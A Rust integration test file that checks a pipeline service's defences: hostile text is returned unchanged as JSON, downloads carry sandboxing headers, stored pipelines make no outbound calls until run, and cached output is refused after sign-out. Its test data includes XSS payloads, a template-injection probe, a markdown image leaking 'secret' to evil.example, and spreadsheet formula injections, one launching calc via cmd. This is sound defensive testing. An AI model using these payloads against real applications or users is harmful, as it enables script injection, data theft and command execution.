//! Hostile texts of users and what browsers keep of them: F01, F02, F08, F10 as far as the server
//! promises them. What the pages show is tested in `frontend/e2e/hostile.spec.ts`.

use std::time::Duration;

use components::http::OutboundConfig;
use reqwest::Method;
use serde_json::{Value as Json, json};

use super::uploads;
use crate::{
    cases,
    harness::{
        Answer, Caller, TestApp,
        pipelines::{create, finished, start, text},
        site::Site,
    },
};

cases![Shared:
    f01_hostile_texts_come_back_unchanged_and_as_json_only,
    f02_a_value_that_is_a_page_or_a_formula_is_downloaded_as_json,
    f08_a_stored_pipeline_contacts_nothing_until_somebody_runs_it,
    f10_what_a_browser_has_kept_is_not_confirmed_after_signing_out;
];

/// Markup, an address that runs a script, a picture with a script, and what a template would compute.
const HOSTILE: [&str; 4] = [
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "{{ 7 * 7 }}",
];

const START: &str = "mutation($pipeline: ID!, $input: JSON!) { \
    startRun(input: {pipelineId: $pipeline, input: $input}) { run { id } } }";

/// A pipeline that passes on the value of its input, with this name and description.
fn named(name: &str) -> String {
    json!({
        "name": name, "description": name, "version": "1.0.0", "output_stage_id": "a",
        "stages": [
            { "id": "a", "component": "variable_set",
              "config": { "name": "v", "value": "{{input.value}}" } },
        ],
    })
    .to_string()
}

/// Runs a pipeline with a value and returns the run's id.
async fn run_with(caller: &Caller, pipeline: &str, value: &str) -> String {
    let variables = json!({ "pipeline": pipeline, "input": { "value": value } });
    let data = caller.data(START, variables).await;
    let run = text(&data["startRun"]["run"]["id"]);
    assert_eq!(finished(caller, &run).await, "SUCCEEDED");
    run
}

fn header<'a>(answer: &'a Answer, name: &str) -> &'a str {
    let value = answer.headers.get(name);
    value.map_or("", |value| value.to_str().expect("a text"))
}

async fn f01_hostile_texts_come_back_unchanged_and_as_json_only(app: TestApp) {
    const NAMES: &str = "mutation($n: String!) { \
        updateProfile(input: {name: $n, organizationName: $n}) { viewer { role } } }";
    const VIEWER: &str = "{ viewer { user { name } organization { name } } }";
    const FOLDER: &str =
        "mutation($n: String!) { createFolder(input: {name: $n}) { folder { name } } }";
    const SHOWN: &str = "query($run: ID!) { run(id: $run) { \
        pipeline { name description } input output stage(address: \"a\") { output } } }";
    app.work();
    let a = app.org("A").await;
    let caller = &a.owner().caller;
    for hostile in HOSTILE {
        caller.data(NAMES, json!({ "n": hostile })).await;
        let viewer = caller.data(VIEWER, json!({})).await["viewer"].clone();
        assert_eq!(viewer["user"]["name"], hostile);
        assert_eq!(viewer["organization"]["name"], hostile);
        let folder = caller.data(FOLDER, json!({ "n": hostile })).await;
        assert_eq!(folder["createFolder"]["folder"]["name"], hostile);

        let pipeline = create(caller, &named(hostile)).await;
        let run = run_with(caller, &pipeline, hostile).await;
        let answer = caller.graphql(SHOWN, json!({ "run": run })).await;
        let found = answer.json()["data"]["run"].clone();
        assert_eq!(found["pipeline"]["name"], hostile, "{found}");
        assert_eq!(found["pipeline"]["description"], hostile, "{found}");
        assert_eq!(found["input"]["value"], hostile, "{found}");
        // Templates are those of the file: a value is never read as one.
        assert_eq!(found["output"]["value"], hostile, "{found}");
        assert_eq!(found["stage"]["output"]["value"], hostile, "{found}");
        only_json(&answer);

        // Errors repeat what was sent, and are JSON, too.
        let missing = caller
            .graphql(
                "query($id: ID!) { run(id: $id) { id } }",
                json!({ "id": hostile }),
            )
            .await;
        only_json(&missing);
        only_json(
            &caller
                .post("/auth/link", &json!({ "token": hostile }))
                .await,
        );
        only_json(&uploads::send(caller, hostile, "text/html", "<script>alert(1)</script>").await);
    }
}

/// Whether a browser reads a response as JSON and as nothing else.
fn only_json(answer: &Answer) {
    let kind = header(answer, "content-type");
    assert!(
        kind.starts_with("application/") && kind.contains("json"),
        "{kind}"
    );
    assert_eq!(header(answer, "x-content-type-options"), "nosniff");
    answer.json();
}

async fn f02_a_value_that_is_a_page_or_a_formula_is_downloaded_as_json(app: TestApp) {
    app.work();
    let a = app.org("A").await;
    let caller = &a.owner().caller;
    let pipeline = create(caller, &named("Values")).await;
    for value in [
        "<!doctype html><script>alert(document.cookie)</script>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "[a](javascript:alert(1)) ![b](https://evil.example/?q=secret)",
        "=HYPERLINK(\"https://evil.example\")",
        "+1+cmd|' /C calc'!A0",
    ] {
        let run = run_with(caller, &pipeline, value).await;
        for path in ["input", "output", "input?stage=a", "output?stage=a"] {
            let answer = caller.get(&format!("/api/runs/{run}/{path}")).await;
            assert_eq!(answer.status, 200, "{path}: {}", answer.text);
            assert_eq!(header(&answer, "content-type"), "application/json");
            assert_eq!(header(&answer, "x-content-type-options"), "nosniff");
            // Neither the value nor the names of the pipeline and its stages make the file's name.
            let disposition = header(&answer, "content-disposition");
            let start = format!("attachment; filename=\"{run}-");
            assert!(disposition.starts_with(&start), "{disposition}");
            assert!(disposition.ends_with(".json\""), "{disposition}");
            let policy = header(&answer, "content-security-policy");
            assert!(policy.contains("default-src 'none'"), "{policy}");
            assert!(
                policy.contains("sandbox") && !policy.contains("allow-"),
                "{policy}"
            );
            let file: Json = serde_json::from_str(&answer.text).expect("JSON");
            assert!(
                file.to_string().contains(&json!(value).to_string()),
                "{file}"
            );
        }
    }
}

async fn f08_a_stored_pipeline_contacts_nothing_until_somebody_runs_it(app: TestApp) {
    const CHECK: &str = "query($source: String!) { validatePipeline(source: $source) { \
        valid findings { rule } } }";
    const PUSH: &str = "mutation($p: ID!, $source: String!) { \
        pushPipelineVersion(input: {pipelineId: $p, source: $source}) { created } }";
    const OPEN: &str =
        "mutation($p: ID!) { openDraft(input: {pipelineId: $p}) { draft { revision } } }";
    const LOOK: &str = "query($p: ID!) { pipeline(id: $p) { latestVersion { \
        explanation runPlan { requests { host } } } } }";
    const WORK: &str = "{ runs { edges { node { id } } } jobs { edges { node { id } } } }";
    let site = Site::start("127.0.0.1", |_| (200, None)).await;
    // A worker that could call it at once.
    app.work_with(OutboundConfig::from_list(&site.address));
    let a = app.org("A").await;
    let caller = &a.owner().caller;
    let source = |path: &str| {
        let url = format!("http://{}/{path}", site.address);
        let call = json!({ "id": "call", "component": "http_request", "config": { "url": url } });
        json!({ "name": "Calls", "version": "1.0.0", "stages": [call] }).to_string()
    };
    let checked = caller.data(CHECK, json!({ "source": source("one") })).await;
    assert_eq!(checked["validatePipeline"]["valid"], true, "{checked}");
    let pipeline = create(caller, &source("one")).await;
    let pushed = json!({ "p": pipeline, "source": source("two") });
    let pushed = caller.data(PUSH, pushed).await;
    assert_eq!(pushed["pushPipelineVersion"]["created"], true);
    caller.data(OPEN, json!({ "p": pipeline })).await;
    let seen = caller.data(LOOK, json!({ "p": pipeline })).await;
    let plan = &seen["pipeline"]["latestVersion"]["runPlan"];
    assert_eq!(plan["requests"].as_array().map(Vec::len), Some(1), "{plan}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let work = caller.data(WORK, json!({})).await;
    assert_eq!(work["runs"]["edges"], json!([]), "{work}");
    assert_eq!(work["jobs"]["edges"], json!([]), "{work}");
    assert_eq!(site.seen(), Vec::<String>::new());

    let run = start(caller, &pipeline).await;
    finished(caller, &run).await;
    assert_eq!(site.seen().len(), 1, "the run calls it");
}

async fn f10_what_a_browser_has_kept_is_not_confirmed_after_signing_out(app: TestApp) {
    app.work();
    let a = app.org("A").await;
    let caller = &a.owner().caller;
    let pipeline = create(caller, &named("Kept")).await;
    let run = run_with(caller, &pipeline, "what nobody else may see").await;
    let answer = caller.graphql("{ viewer { actorName } }", json!({})).await;
    assert_eq!(header(&answer, "cache-control"), "no-store");

    let path = format!("/api/runs/{run}/output");
    let file = caller.get(&path).await;
    // The browser may keep it, and has to ask each time, with the credentials of that time.
    assert_eq!(header(&file, "cache-control"), "private, no-cache");
    assert_eq!(header(&file, "vary"), "cookie, authorization");
    let tag = header(&file, "etag").to_owned();
    let again = async || {
        let request = caller.request(Method::GET, &path);
        let request = request.header("if-none-match", &tag);
        Answer::of(request.send().await.expect("the server answers")).await
    };
    assert_eq!(again().await.status, 304);
    assert_eq!(caller.post("/auth/sign-out", &json!({})).await.status, 200);
    let refused = again().await;
    assert_eq!(refused.status, 401);
    assert_eq!(header(&refused, "cache-control"), "no-store");
    assert!(!refused.text.contains("nobody else"), "{}", refused.text);
}
